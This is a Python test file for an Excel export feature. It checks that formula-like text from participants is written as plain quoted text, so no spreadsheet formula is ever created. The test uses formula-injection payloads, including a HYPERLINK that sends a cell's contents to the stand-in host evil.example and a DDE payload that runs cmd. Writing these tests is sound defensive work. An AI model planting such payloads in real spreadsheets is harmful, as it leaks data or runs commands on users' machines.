"""Formula injection: a text a participant typed is written as text, never as a live formula."""

import zipfile
from io import BytesIO

from openpyxl import load_workbook

from missionmatch.exports.excel import mission_workbook
from tests.factories import small_mission

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def test_formula_like_texts_are_written_as_quoted_text_cells() -> None:
    document = small_mission()
    for person, payload in zip(document["participants"], PAYLOADS, strict=False):
        person["first_name"] = payload
    document["organisations"][0]["name"] = "=cmd|'/c calc'!A0"
    data = mission_workbook(document)
    workbook = load_workbook(BytesIO(data))
    rows = list(workbook["Participants"].iter_rows(min_row=2))
    names = [row[0] for row in rows]
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in names] == [
        (payload, "s", True) for payload in PAYLOADS[:4]
    ]
    company = workbook["B2B afternoon"]["E2"]  # the delegation company of the meeting
    assert (company.value, company.data_type, company.quotePrefix) == ("=cmd|'/c calc'!A0", "s", True)
    with zipfile.ZipFile(BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert [sheet.count(b"<f>") for sheet in sheets] == [0] * len(sheets)  # no formula anywhere


def test_ordinary_texts_and_numbers_keep_their_types() -> None:
    workbook = load_workbook(BytesIO(mission_workbook(small_mission())))
    first = workbook["Participants"][2]
    assert [(first[0].value, first[0].quotePrefix), (first[7].value, first[7].data_type)] == [
        ("Anne", False),
        (0, "n"),
    ]
